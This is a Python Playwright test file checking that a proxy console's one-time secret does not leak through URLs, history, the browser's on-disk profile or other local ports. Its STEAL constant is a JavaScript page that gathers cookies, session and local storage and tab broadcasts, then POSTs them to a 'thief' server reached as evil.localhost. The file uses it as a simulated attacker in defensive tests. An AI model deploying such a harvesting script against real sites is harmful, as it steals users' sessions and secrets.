"""How the console's secret gets into a page, and that it is nowhere else afterwards."""

import http.server
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.support import Program, RawUpstream, ask, node
from tests.support.chromium import Contexts, persistent
from tests.support.page import NARROW, violations
from tests.support.patience import PATIENCE
from tests.support.sweeps import further

pytestmark = pytest.mark.browser

# All that a page can lay its hands on, for a server of its own.
STEAL = b"""<!doctype html><title>a page</title><script type="module">
const tabs = new BroadcastChannel("secret"), heard = [];
tabs.onmessage = ({ data }) => heard.push(JSON.stringify(data));
tabs.postMessage({ wanted: true });
await new Promise((done) => setTimeout(done, 500));
await fetch("/stolen", { method: "POST", credentials: "include", body: JSON.stringify([
  document.cookie, { ...sessionStorage }, { ...localStorage }, heard,
  document.referrer, window.name, history.state,
]) });
document.title = "done";
</script>"""


class Thief(http.server.BaseHTTPRequestHandler):
    """Another user's server, on another port; it keeps all that arrives."""

    arrived: list[str]

    def do_GET(self) -> None:
        self.arrived.append(f"{self.path}\n{self.headers}")
        self._answer(STEAL)

    def do_POST(self) -> None:
        content = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.arrived.append(f"{self.path}\n{self.headers}{content}")
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def thief() -> Iterator[tuple[int, list[str]]]:
    """Return a port and what arrives there."""
    handler = type("Handler", (Thief,), {"arrived": []})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port, handler.arrived  # type: ignore[attr-defined]
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def proxy() -> Iterator[Program]:
    with RawUpstream() as upstream, Program(upstream.url, console=True) as proxy:
        yield proxy


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(locale="en-US")
    context.set_default_timeout(PATIENCE * 1000)
    yield context
    context.close()


def opened(context: BrowserContext, url: str) -> Page:
    page = context.new_page()
    page.goto(url)
    expect(page.locator("#live.on")).to_be_visible()
    return page


def secret_of(page: Page) -> str:
    found: str = page.evaluate("sessionStorage.secret")
    return found


@pytest.mark.parametrize("name", ["127.0.0.1", *further("localhost", "evil.localhost")])
def test_no_other_port_of_this_machine_gets_it(
    context: BrowserContext, proxy: Program, thief: tuple[int, list[str]], name: str
) -> None:
    """A page of another site sends the browser to another user's server beside the console."""
    port, arrived = thief
    link = proxy.console
    page = opened(context, link)
    secrets = (secret_of(page), link.partition("=")[2], proxy.secret)
    assert len(set(map(len, secrets))) == 1
    stranger = context.new_page()
    stranger.goto(f"http://evil.localhost:{port}/")
    expect(stranger).to_have_title("done")
    stranger.evaluate("(url) => { location = url; }", f"http://{name}:{port}/")
    stranger.wait_for_url(f"http://{name}:{port}/")
    expect(stranger).to_have_title("done")
    page.goto(f"http://{name}:{port}/")  # in the tab of the console itself
    expect(page).to_have_title("done")
    assert len(arrived) >= 6
    assert not [each for each in secrets for text in arrived if each in text]
    assert "breb-proxy" not in "".join(arrived)


def test_the_address_bar_and_the_way_back_have_none(
    context: BrowserContext, proxy: Program
) -> None:
    page = opened(context, proxy.console)
    assert page.url == f"http://127.0.0.1:{proxy.admin_port}/"
    ask(proxy.port, "/v1/accounts")
    page.locator("#rows tr[data-id]").first.click()
    expect(page.locator("#panel")).to_be_visible()
    assert "secret" not in page.url
    page.go_back()
    expect(page.locator("#panel")).to_have_count(0)
    assert "secret" not in page.url
    assert page.evaluate("[document.cookie, localStorage.length, history.state]") == ["", 0, None]


def test_what_the_browser_keeps_of_a_link_opens_nothing(
    browser: Browser, proxy: Program, tmp_path: Path
) -> None:
    """History, favicons, session: on the disk after the browser has ended."""
    link = proxy.console
    with persistent(browser, tmp_path / "profile") as context:
        page = opened(context, link)
        secret = secret_of(page)
        page.goto("about:blank")
    files = {file: file.read_bytes() for file in tmp_path.rglob("*") if file.is_file()}
    assert any(b"127.0.0.1" in content for content in files.values())
    kept = b"".join(files.values())
    for each in {
        link.partition("=")[2],
        *re.findall(r"secret=([\w-]{43})", kept.decode("latin-1")),
    }:
        given = [("Authorization", f"Bearer {each}")]
        assert ask(proxy.admin_port, "/console/api/session", "POST", fields=given).status == 401
        assert ask(proxy.admin_port, "/status", fields=given).status == 401
    assert proxy.secret.encode() not in kept
    named = {file.parent.name for file, content in files.items() if secret.encode() in content}
    assert named <= {"Session Storage"}


def test_a_reload_and_more_tabs_work_after_the_link_was_used(
    context: BrowserContext, proxy: Program
) -> None:
    link = proxy.console
    page = opened(context, link)
    page.reload()
    expect(page.locator("#live.on")).to_be_visible()
    opened(context, link).close()
    bare = opened(context, f"http://127.0.0.1:{proxy.admin_port}/")
    bare.reload()
    expect(bare.locator("#live.on")).to_be_visible()


def test_a_link_that_was_used_says_so_where_no_tab_is_open(
    context: BrowserContext, proxy: Program
) -> None:
    link = proxy.console
    opened(context, link).close()
    page = context.new_page()
    page.goto(link)
    locked = page.locator("#locked")
    expect(locked).to_contain_text("This address was used already, or is more than an hour old")
    expect(locked.locator("pre")).to_have_text(
        f"breb-proxy console --admin-listen 127.0.0.1:{proxy.admin_port}"
    )
    assert "secret" not in page.url
    expect(page.locator("main")).to_be_hidden()
    page.evaluate("(url) => { location = url; }", proxy.console)  # as pasted into the address bar
    expect(page.locator("#live.on")).to_be_visible()
    expect(locked).to_be_hidden()


@pytest.mark.parametrize(
    ("language", "title"),
    [
        ("en-US", "To open the console, you need an address that is for you alone"),
        *further(("es-CO", "Para abrir la consola necesita una dirección que sea solo para usted")),
    ],
)
@pytest.mark.parametrize("path", ["?secret=old", *further("")])
def test_a_page_without_a_secret_says_what_to_do(
    contexts: Contexts, proxy: Program, language: str, title: str, path: str
) -> None:
    with contexts.page(locale=language, viewport=NARROW, bypass_csp=True) as page:
        page.goto(f"http://127.0.0.1:{proxy.admin_port}/{path}")
        expect(page.get_by_role("heading", name=title)).to_be_visible()
        assert "?" not in page.url
        page.add_script_tag(path=node.package("axe-core") / "axe.min.js")
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)
            assert violations(page, scheme) == []


def test_a_tab_that_is_locked_opens_with_another(context: BrowserContext, proxy: Program) -> None:
    locked = context.new_page()
    locked.goto(f"http://127.0.0.1:{proxy.admin_port}/")
    expect(locked.locator("#locked")).to_be_visible()
    opened(context, proxy.console)
    expect(locked.locator("#live.on")).to_be_visible()
    expect(locked.locator("#locked")).to_be_hidden()


PARSE = """async (text) => {
    const { Parser } = await import("/console/events.js");
    const cutAt = (cut) => {
        const heard = [];
        const hear = (event) => heard.push([event.type, event.data, event.lastEventId]);
        const parser = new Parser(hear);
        parser.push(text.slice(0, cut));
        parser.push(text.slice(cut));
        return heard;
    };
    return Array.from({ length: text.length + 1 }, (_, cut) => cutAt(cut));
}"""


@pytest.mark.parametrize("end", ["\r\n", *further("\n", "\r")])
def test_events_are_read_however_they_are_cut(
    context: BrowserContext, proxy: Program, end: str
) -> None:
    page = opened(context, proxy.console)
    lines = [
        *(":a comment", "id: run-7", "event: status", 'data: {"a":1}', ""),
        *("data:x", "data: y:z", "retry: 5", "nothing", "", "event: lost", "", "data", "", "x", ""),
    ]
    text = end.join(lines) + end
    whole = [
        ["status", '{"a":1}', "run-7"],
        ["message", "x\ny:z", "run-7"],
        ["message", "", "run-7"],
    ]
    assert page.evaluate(PARSE, text) == [whole] * (len(text) + 1)
